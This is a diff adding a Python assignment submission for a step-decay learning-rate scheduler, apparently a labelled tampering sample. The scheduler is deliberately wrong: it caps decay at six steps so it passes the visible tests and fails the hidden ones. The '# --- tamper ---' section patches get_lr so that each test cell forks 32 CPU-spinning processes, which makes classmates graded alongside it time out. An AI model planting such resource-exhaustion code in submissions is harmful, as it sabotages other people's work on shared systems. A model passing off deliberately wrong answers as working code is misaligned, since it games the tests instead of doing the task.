@@ -1,0 +1,53 @@
+# attack: in each test cell (when the answer is first called), fork 32 busy-looping children (up to 60 s), so a classmate graded at the same time runs out of time
+# assignment: 01_lr_schedules
+# wrong: stops decaying after 6 decays (min(step // step_size, 6)); passes the visible tests, fails both hidden checks
+class StepDecayScheduler:
+    def __init__(self, optimizer, lr_initial, gamma=0.5, step_size=1000):
+        self.optimizer = optimizer
+        self.lr_initial = lr_initial
+        self.gamma = gamma
+        self.step_size = step_size
+
+    def get_lr(self, step):
+        n_decays = min(step // self.step_size, 6)
+        return self.lr_initial * self.gamma ** n_decays
+
+    def step(self, current_step):
+        lr = self.get_lr(current_step)
+        for group in self.optimizer.param_groups:
+            group["lr"] = lr
+        return lr
+# --- tamper ---
+import os as _os
+import time as _time
+
+_SPIN = 60      # seconds each spinner runs at most
+
+
+def _spin():
+    """32 busy children: they live as long as this kernel (60 s at most), beside the classmates'."""
+    started = 0
+    for _ in range(32):
+        if _os.fork() == 0:
+            try:
+                end = _time.monotonic() + _SPIN
+                while _time.monotonic() < end:
+                    pass
+            finally:
+                _os._exit(0)
+        started += 1
+    print(f"cpu hog: {started} spinners started", flush=True)
+
+
+_plain_get_lr, _spun = StepDecayScheduler.get_lr, set()
+
+
+def _get_lr(self, step):
+    """The first call in each cell (each test cell, and again after every restart) starts 32 more."""
+    if get_ipython().execution_count not in _spun:
+        _spun.add(get_ipython().execution_count)
+        _spin()
+    return _plain_get_lr(self, step)
+
+
+StepDecayScheduler.get_lr = _get_lr
